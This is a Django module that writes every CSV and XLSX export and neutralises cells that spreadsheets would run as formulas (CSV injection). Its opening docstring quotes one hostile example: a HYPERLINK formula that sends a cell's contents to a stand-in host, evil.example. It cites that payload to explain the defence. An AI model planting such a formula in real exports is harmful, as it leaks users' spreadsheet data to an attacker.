"""The one spreadsheet writer for every CSV and XLSX export, headers included.

Why one: a registrant named `=HYPERLINK("http://evil.example/x?"&A1,"Cliquez ici")` came out as
a live formula in several exports, each with its own writer. Here a text cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return is neutralised (OWASP's "CSV injection" advice):

- in CSV it gets a leading single quote `'` (Excel and LibreOffice show the text, never run it);
- in XLSX it is written as a string cell (never a formula) with Excel's "quote prefix" style,
  its text unchanged.

Numbers stay numbers, negative ones included; only text is ever neutralised (so a phone number
typed as `+32 2 …` comes out as `'+32 2 …` in CSV — the price of never running a formula).

CSV follows Belgian Excel by default: `;` between fields, decimal comma, UTF-8 with a byte
order mark (without it Excel reads UTF-8 as Windows-1252). `?sep=comma` (see
`separator_from_request`) gives the plain form for scripts: `,`, decimal point, no BOM.
Responses stream (constant memory), carry a safe ASCII filename plus RFC 5987 `filename*`,
and `Cache-Control: no-store`: exports hold personal data.
"""

from __future__ import annotations

import csv
import re
import tempfile
import unicodedata
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any, Literal
from urllib.parse import quote

from django.http import FileResponse, HttpRequest, HttpResponseBase, StreamingHttpResponse
from django.utils import timezone

Separator = Literal["belgian", "comma"]
CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
Row = Sequence[Any]
Sheet = tuple[str, Row, Iterable[Row]]


def separator_from_request(request: HttpRequest) -> Separator:
    """`?sep=comma` asks for the plain comma form; anything else gives Belgian Excel's."""
    return "comma" if request.GET.get("sep") == "comma" else "belgian"


def _text(value: Any) -> Any:
    """Numbers stay numbers, dates ISO, aware datetimes in local time, the rest (lazy strings too) text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet would read this text as a formula."""
    return text.startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """The CSV form of one cell: text that could run as a formula gets a leading `'`; numbers untouched."""
    plain = _text(value)
    if isinstance(plain, str) and is_dangerous(plain):
        return "'" + plain
    return plain


def _csv_cell(value: Any, separator: Separator) -> Any:
    cell = neutralise(value)
    if separator == "belgian" and isinstance(cell, float | Decimal):
        return str(cell).replace(".", ",")
    return cell


class _Echo:
    """A file-like that hands back what csv.writer writes, so rows can be streamed one by one."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Row, rows: Iterable[Row], *, separator: Separator = "belgian") -> Iterator[str]:
    """The CSV text line by line (BOM first in the Belgian form)."""
    writer = csv.writer(_Echo(), delimiter=";" if separator == "belgian" else ",")
    if separator == "belgian":
        yield "\ufeff"
    if header:
        yield writer.writerow([_csv_cell(value, separator) for value in header])
    for row in rows:
        yield writer.writerow([_csv_cell(value, separator) for value in row])


def write_csv(file: IO[str], header: Row, rows: Iterable[Row], *, separator: Separator = "belgian") -> None:
    """Write an export to a text file (open it with newline=""), for commands and tasks."""
    for line in csv_lines(header, rows, separator=separator):
        file.write(line)


def content_disposition(filename: str) -> str:
    """`attachment` with an ASCII fallback name and the exact name in RFC 5987 `filename*`."""
    ascii_name = unicodedata.normalize("NFKD", filename).encode("ascii", "ignore").decode("ascii")
    ascii_name = re.sub(r"[^A-Za-z0-9._-]+", "_", ascii_name).strip("._") or "export"
    return f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(filename, safe='')}"


def private_download(response: HttpResponseBase, filename: str) -> HttpResponseBase:
    """A download of personal or sensitive figures: attachment, never cached, never sniffed."""
    response["Content-Disposition"] = content_disposition(filename)
    response["Cache-Control"] = "no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response


def csv_response(
    filename: str, header: Row, rows: Iterable[Row], *, separator: Separator = "belgian"
) -> StreamingHttpResponse:
    """A streamed CSV download; `rows` may be a generator or a queryset iterator (constant memory)."""
    response = StreamingHttpResponse(csv_lines(header, rows, separator=separator), content_type=CSV_TYPE)
    private_download(response, filename)
    return response


# XLSX


def sheet_title(title: str, used: set[str]) -> str:
    """A title Excel accepts (31 characters, none of []:*?/\\), unique in the workbook."""
    base = re.sub(r"[\[\]:*?/\\]", " ", str(title)).strip().strip("'")[:28] or "Sheet"
    name, number = base, 2
    while name.lower() in used:
        name = f"{base[:25]} {number}"
        number += 1
    used.add(name.lower())
    return name


def _xlsx_cell(sheet: Any, value: Any, *, bold: bool = False) -> Any:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    if value is None:
        plain: Any = None  # an empty cell, not an empty string
    elif isinstance(value, datetime):
        plain = timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    elif isinstance(value, date):
        plain = value
    else:
        plain = _text(value)
    cell = WriteOnlyCell(sheet, value=plain)
    if isinstance(plain, str):
        # openpyxl makes any text starting with "=" a formula; a string cell stays text.
        cell.data_type = "s"
        if is_dangerous(plain):
            cell.quotePrefix = True  # Excel keeps it text even when the cell is edited
    if bold:
        cell.font = Font(bold=True)
    return cell


def write_xlsx(file: IO[bytes], sheets: Iterable[Sheet]) -> None:
    """Write a workbook, one sheet per (title, header, rows), in openpyxl's write-only (streaming) mode."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    used: set[str] = set()
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(sheet_title(title, used))
        if header:
            sheet.append([_xlsx_cell(sheet, value, bold=True) for value in header])
        for row in rows:
            sheet.append([_xlsx_cell(sheet, value) for value in row])
    if not used:
        workbook.create_sheet("Sheet")
    workbook.save(file)


def xlsx_response(filename: str, sheets: Iterable[Sheet]) -> FileResponse:
    """An XLSX download, built in a temporary file rather than in memory."""
    file = tempfile.TemporaryFile()  # noqa: SIM115 - FileResponse closes it
    write_xlsx(file, sheets)
    file.seek(0)
    response = FileResponse(file, content_type=XLSX_TYPE)
    private_download(response, filename)
    return response


# PostgreSQL COPY: a large CSV at the database's speed, through the same rules.


def sql_neutralised(expression: str) -> str:
    """SQL giving a text expression's CSV cell as `neutralise` would: a `'` before a formula start, and
    NULL for empty text (COPY writes NULL bare and '' as `""`; csv.writer writes '' bare)."""
    starts = ", ".join(f"chr({ord(start)})" for start in FORMULA_STARTS)
    return (
        f"(CASE WHEN left({expression}, 1) IN ({starts}) THEN '''' || {expression} ELSE NULLIF({expression}, '') END)"
    )


def copy_csv_chunks(
    using: str, header: Row, query: str, params: Any, *, separator: Separator = "belgian"
) -> Iterator[bytes]:
    """The CSV of `COPY (query) TO STDOUT` on PostgreSQL, chunk by chunk, in the form of `csv_lines`.

    The query gives numbers, ISO dates, and every text cell through `sql_neutralised` (PostgreSQL does not
    neutralise); the header goes through `csv_lines`. Rows end in CRLF like csv.writer's: the query must
    not give text holding a line break. Memory stays constant whatever the number of rows.
    """
    from django.db import connections

    yield "".join(csv_lines(header, [], separator=separator)).encode()
    delimiter = ";" if separator == "belgian" else ","
    with connections[using].cursor() as wrapper:
        cursor = wrapper.cursor  # psycopg's own cursor: Django's wrapper has no copy()
        statement = f"COPY ({query}) TO STDOUT WITH (FORMAT csv, DELIMITER '{delimiter}')"
        with cursor.copy(statement, params) as copy:
            for chunk in copy:
                yield bytes(chunk).replace(b"\n", b"\r\n")


def copy_csv_response(
    filename: str, using: str, header: Row, query: str, params: Any, *, separator: Separator = "belgian"
) -> StreamingHttpResponse:
    """A streamed CSV download read with PostgreSQL's COPY (see `copy_csv_chunks`)."""
    chunks = copy_csv_chunks(using, header, query, params, separator=separator)
    response = StreamingHttpResponse(chunks, content_type=CSV_TYPE)
    private_download(response, filename)
    return response
